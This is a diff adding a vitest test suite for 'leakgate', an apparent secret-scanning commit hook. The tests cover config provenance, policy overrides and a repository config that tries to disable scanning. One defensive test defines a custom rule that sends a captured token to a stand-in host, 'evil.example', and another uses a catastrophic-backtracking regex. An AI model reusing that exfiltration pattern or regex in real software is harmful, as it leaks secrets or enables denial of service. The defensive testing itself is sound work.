@@ -1,0 +1,172 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { makeFolder, makeRepo, type Repo, tokenLine } from '../helpers/repo.ts';
+
+/** Writes the user's own config. */
+function userConfig(repo: Repo, text: string): string {
+  const folder = path.join(repo.home, 'xdg', 'leakgate');
+  mkdirSync(folder, { recursive: true });
+  writeFileSync(path.join(folder, 'config.yaml'), text);
+  const home = path.join(repo.home, 'xdg');
+  Object.assign(repo.env, { XDG_CONFIG_HOME: home, APPDATA: home });
+  return path.join(folder, 'config.yaml');
+}
+
+describe('leakgate config', () => {
+  test('says what is in force, and who said it', () => {
+    const repo = makeRepo();
+    const own = userConfig(
+      repo,
+      'proxy: http://ann:hunter2@proxy.example:3128\nskip:\n  - a*\nmax-file-size: 1M\n',
+    );
+    repo.write('.leakgate.yaml', 'exclude:\n  - vendor/**\nmax-file-size: 2M\n');
+    const env = { LEAKGATE_MAX_DECODE_DEPTH: '2' };
+    const { status, stdout } = repo.leakgate(['config', '--json', '--only', 'x'], { env });
+    expect(status).toBe(0);
+    expect(stdout).not.toContain('hunter2');
+    const { settings } = JSON.parse(stdout) as {
+      settings: { key: string; value: unknown; from: string; at: string | null }[];
+    };
+    const said = (key: string) =>
+      settings.filter((one) => one.key === key).map(({ key: _, ...rest }) => rest);
+    expect(said('only')).toEqual([{ value: ['x'], from: 'flag', at: '--only' }]);
+    expect(said('max-decode-depth')).toEqual([
+      { value: 2, from: 'environment', at: 'LEAKGATE_MAX_DECODE_DEPTH' },
+    ]);
+    expect(said('exclude')).toEqual([{ value: 'vendor/**', from: 'repository', at: '.leakgate.yaml:2' }]);
+    expect(said('max-file-size')).toEqual([{ value: '2M', from: 'repository', at: '.leakgate.yaml:3' }]);
+    expect(said('skip')).toEqual([{ value: 'a*', from: 'user', at: `${own}:3` }]);
+    expect(said('on-finding')).toEqual([{ value: 'block', from: 'default', at: null }]);
+    const text = repo.leakgate(['config']).stdout;
+    expect(text).toMatch(/^exclude +vendor\/\*\* +\.leakgate\.yaml:2$/m);
+    expect(text).not.toContain('hunter2');
+  });
+
+  test('works outside of a repository, and refuses what is wrong', () => {
+    const folder = makeFolder();
+    expect(folder.leakgate(['config']).status).toBe(0);
+    expect(folder.leakgate(['config', 'more'])).toMatchObject({ status: 2 });
+    expect(folder.leakgate(['config', '-f', 'sarif'])).toMatchObject({ status: 2 });
+    folder.write('.leakgate.yaml', 'exclude: 1\n');
+    expect(folder.leakgate(['config'])).toMatchObject({ status: 2 });
+  });
+});
+
+describe('policy', () => {
+  const warns =
+    'overrides:\n  - paths: [test/]\n    on-finding: warn\n  - branches: [wip/*]\n    on-finding: warn\n';
+
+  test('by path: the finding is there, and does not block', () => {
+    const repo = makeRepo();
+    repo.write('.leakgate.yaml', warns);
+    repo.add('test/a.env', tokenLine());
+    const run = repo.leakgate(['staged', '-f', 'json']);
+    expect(run.status).toBe(0);
+    expect(JSON.parse(run.stdout).findings).toMatchObject([{ file: 'test/a.env', blocks: false }]);
+    repo.add('b.env', tokenLine());
+    expect(repo.leakgate(['staged']).status).toBe(1);
+  });
+
+  test.each<[string, string[], NodeJS.ProcessEnv, number]>([
+    ['the branch that is checked out', ['checkout', '-qb', 'wip/a'], {}, 0],
+    ['another one', ['checkout', '-qb', 'other'], {}, 1],
+    ['what CI builds', ['checkout', '-qb', 'other'], { CI_COMMIT_BRANCH: 'wip/a' }, 0],
+    [
+      'what a pull request goes to, whatever its own branch is called',
+      ['checkout', '-qb', 'wip/a'],
+      { GITHUB_BASE_REF: 'main', GITHUB_REF: 'refs/heads/wip/a' },
+      1,
+    ],
+  ])('by branch: %s', (_, checkout, env, status) => {
+    const repo = makeRepo();
+    repo.git(...checkout);
+    repo.write('.leakgate.yaml', warns);
+    repo.add('a.env', tokenLine());
+    expect(repo.leakgate(['staged'], { env }).status).toBe(status);
+  });
+
+  test('by branch: what is pushed to counts, not what is checked out', () => {
+    const repo = makeRepo();
+    repo.git('init', '-q', '--bare', '../remote.git');
+    repo.git('remote', 'add', 'origin', '../remote.git');
+    repo.write('.leakgate.yaml', warns);
+    repo.add('a.env', tokenLine());
+    repo.git('commit', '-qm', 'a');
+    repo.leakgate(['hook', 'install', '--hooks', 'pre-push']);
+    const pushed = (to: string) => repo.run('git', ['push', '-q', 'origin', `HEAD:refs/heads/${to}`]).status;
+    expect(pushed('main')).not.toBe(0);
+    expect(pushed('wip/a')).toBe(0);
+  });
+
+  test('severity, confidence and stop words', () => {
+    const repo = makeRepo();
+    repo.add('a.env', tokenLine());
+    repo.write('.leakgate.yaml', 'severities: { github: low }\nblock-severity: medium\n');
+    expect(JSON.parse(repo.leakgate(['staged', '-f', 'json']).stdout).findings).toMatchObject([
+      { severity: 'low', blocks: false },
+    ]);
+    repo.write('.leakgate.yaml', 'stop-words: [GHP_]\n');
+    const { findings, suppressed } = JSON.parse(repo.leakgate(['staged', '-f', 'json']).stdout);
+    expect(findings).toEqual([]);
+    expect(suppressed).toMatchObject([{ suppression: { by: 'config' } }]);
+  });
+});
+
+describe('a hostile repository', () => {
+  test.each([
+    ['excludes everything', 'exclude: ["**"]\n', 'does not scan **'],
+    ['turns every rule off', 'skip: ["*"]\n', 'turns off *'],
+    ['takes a rule that is not there', 'only: [no-such-rule]\n', 'takes only the rules no-such-rule'],
+    ['allows everything', 'allow: [{ secret: ["."] }]\n', 'allows by 1 entry'],
+    ['only warns', 'on-finding: warn\n', 'only warns'],
+    ['blocks on nothing', 'block-on: []\n', 'blocks only on nothing'],
+  ])('that %s says so, and --no-repo-config ignores it', (_, config, phrase) => {
+    const repo = makeRepo();
+    repo.write('.leakgate.yaml', config);
+    repo.add('a.env', tokenLine());
+    const run = repo.leakgate(['staged']);
+    expect(run).toMatchObject({ status: 0, all: expect.stringContaining(phrase) });
+    expect(repo.leakgate(['hook', 'run', 'pre-commit']).all).toContain(phrase);
+    expect(repo.leakgate(['staged', '--no-repo-config']).status).toBe(1);
+  });
+
+  test('names no host, and its rules ask nobody', () => {
+    const repo = makeRepo();
+    repo.write('.leakgate.yaml', 'endpoints: { github: "https://evil.example" }\n');
+    expect(repo.leakgate(['staged'])).toMatchObject({
+      status: 2,
+      all: expect.stringContaining('your own config'),
+    });
+    const rule = [
+      'custom-rules:',
+      '  - provider: evil',
+      '    name: Evil',
+      '    remediation: { steps: [Nothing to do.] }',
+      '    rules:',
+      '      - id: evil-token',
+      '        title: Evil token',
+      '        severity: low',
+      "        pattern: 'GITHUB_TOKEN=(?<secret>.{20})'",
+      '        examples: { exempt: none here }',
+      '        verify:',
+      '          confidence: V',
+      '          steps: [{ url: "https://evil.example/{{secret}}", live: [{ status: [200] }] }]',
+      '',
+    ].join('\n');
+    repo.write('.leakgate.yaml', rule);
+    repo.add('a.env', tokenLine());
+    const run = repo.leakgate(['staged', '-f', 'json', '--only', 'evil'], { env: { LEAKGATE_OFFLINE: '' } });
+    const verifications = JSON.parse(run.stdout).findings.map(
+      (finding: { verification: object }) => finding.verification,
+    );
+    expect(verifications).toMatchObject([{ status: 'unchecked' }]);
+  });
+
+  test('can not make it hang by a pattern', () => {
+    const repo = makeRepo();
+    repo.write('.leakgate.yaml', "allow: [{ line: ['^(a+)+$'] }]\n");
+    repo.add('a.env', `${'a'.repeat(4000)} ${tokenLine()}`);
+    expect(repo.leakgate(['staged']).status).toBe(1);
+  });
+});
